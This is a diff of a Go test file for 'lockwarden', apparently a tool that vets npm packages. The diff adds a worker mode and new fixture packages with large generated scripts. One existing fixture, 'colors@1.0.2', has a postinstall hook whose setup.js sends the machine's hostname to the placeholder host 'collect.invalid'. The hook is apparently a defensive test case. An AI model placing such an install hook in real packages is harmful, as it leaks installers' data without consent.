@@ -25,6 +25,10 @@ import (
 
 // TestMain makes lockwarden a command of the scripts, and of its own workers.
 func TestMain(m *testing.M) {
+	if len(os.Args) > 1 && os.Args[1] == "worker" {
+		main() // a server under test starts itself, which must never run the tests
+		return
+	}
 	testscript.Main(m, map[string]func(){"lockwarden": main})
 }
 
@@ -47,7 +51,21 @@ var testPackages = map[string]testPackage{
 	"colors@1.0.2":  {files: map[string]string{"index.js": "module.exports = 'red'", "setup.js": "const os = require('os')\nconst https = require('https')\nhttps.request({ host: 'collect.invalid', path: '/?h=' + os.hostname() }).end()\n", "package.json": `{"name":"colors","version":"1.0.2","license":"MIT","repository":"github:a/a","scripts":{"postinstall":"node setup.js"}}`}},
 	"swapped@1.0.0": {files: map[string]string{"index.js": "1"}, other: true},
 	"slow@1.0.0":    {files: map[string]string{"index.js": "1"}, slow: true},
+	"large@1.0.0":   {files: map[string]string{"index.js": large("a")}},
+	"large@1.1.0":   {files: map[string]string{"index.js": large("b")}},
+	"cutoff@1.0.0":  {files: map[string]string{"index.js": large("c")}},
+	"gone@1.0.0":    {files: map[string]string{"index.js": "1"}},
+	"ill@1.0.0":     {files: map[string]string{"index.js": "1"}},
 	"tardy@1.0.0":   {files: map[string]string{"index.js": "1"}, slow: true, once: new(atomic.Bool)},
+}
+
+// large is a script that takes some tenths of a second to read.
+func large(name string) string {
+	var b strings.Builder
+	for i := range 20000 {
+		fmt.Fprintf(&b, "function %s%d(x) { const y = [x, %d]; return y.map(z => z + %d).join('') }\n", name, i, i, i)
+	}
+	return b.String()
 }
 
 func pack(name, version string, files map[string]string) []byte {
